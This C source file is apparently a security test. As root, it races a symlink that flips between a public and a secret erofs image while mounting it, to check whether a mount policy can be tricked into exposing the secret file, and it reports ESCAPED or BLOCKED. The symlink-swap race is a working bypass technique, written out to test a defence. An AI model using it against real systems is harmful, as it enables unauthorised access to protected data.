/* fs_image_race.c SECRET_IMG PUBLIC_IMG WORK INNER: mount an erofs image in a regular file
 * whose name flips, while the mount is decided, between an image the table reads
 * (PUBLIC_IMG) and the secret's (SECRET_IMG): WORK/img is a symlink a thread keeps
 * replacing (symlink + rename) to one and then the other.  Each round mounts WORK/img on
 * WORK/outdir (erofs, read-only), reads WORK/outdir/INNER and unmounts it (mounts29: an
 * image the table may read is mounted, so its name must be held to the file decided, as a
 * bind's source is).  As root, in a mount namespace of our own (private).
 *
 * ESCAPED when a round read the secret; BLOCKED otherwise (with how the rounds went).
 */
#include "attack.h"

#include <limits.h>
#include <sched.h>
#include <sys/mount.h>

static const char *images[2];
static char link_path[PATH_MAX], tmp_path[PATH_MAX];
static volatile int stop;

static void *flipper(void *arg) {
    (void)arg;
    for (unsigned long i = 0; !stop; i++) {
        unlink(tmp_path);
        if (symlink(images[i & 1], tmp_path) == 0)
            rename(tmp_path, link_path);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 5)
        usage("SECRET_IMG PUBLIC_IMG WORK INNER");
    const char *work = argv[3], *inner = argv[4];
    images[0] = argv[2];
    images[1] = argv[1];
    if (unshare(CLONE_NEWNS) < 0)
        blocked("unshare: %s", ename(errno));
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
        blocked("making mounts private: %s", ename(errno));
    char target[PATH_MAX], path[PATH_MAX * 2];
    snprintf(link_path, sizeof link_path, "%s/img", work);
    snprintf(tmp_path, sizeof tmp_path, "%s/img.tmp", work);
    snprintf(target, sizeof target, "%s/outdir", work);
    snprintf(path, sizeof path, "%s/%s", target, inner);
    if (symlink(images[0], link_path) < 0)
        blocked("symlink %s: %s", link_path, ename(errno));
    pthread_t thread;
    if (pthread_create(&thread, NULL, flipper, NULL) != 0)
        blocked("pthread_create failed");
    struct race_tally tally = {0};
    long mounted = 0, refused = 0, errors[256] = {0};
    double end = now_s() + 3;
    for (int round = 0; round < 2000 && (round < 20 || now_s() < end); round++) {
        if (mount(link_path, target, "erofs", MS_RDONLY, NULL) < 0) {
            if (errno == ENODEV || errno == ENOTBLK)
                skipped("erofs on a file: %s", ename(errno));
            refused++;
            errors[errno & 255]++;
            continue;
        }
        mounted++;
        race_count_open(&tally, open(path, O_RDONLY));
        umount2(target, MNT_DETACH);
        if (tally.got)
            break;
    }
    stop = 1;
    pthread_join(thread, NULL);
    if (tally.got)
        escaped("read the secret at %s (%ld mounts, %ld refused)", path, mounted, refused);
    char why[512] = "";
    for (int e = 1; e < 256; e++)
        if (errors[e])
            snprintf(why + strlen(why), sizeof why - strlen(why), " %s x%ld", ename(e),
                     errors[e]);
    blocked("%ld mounts read no secret (%ld other, %ld opens refused), %ld refused:%s",
            mounted, tally.other, tally.refused, refused, why);
}
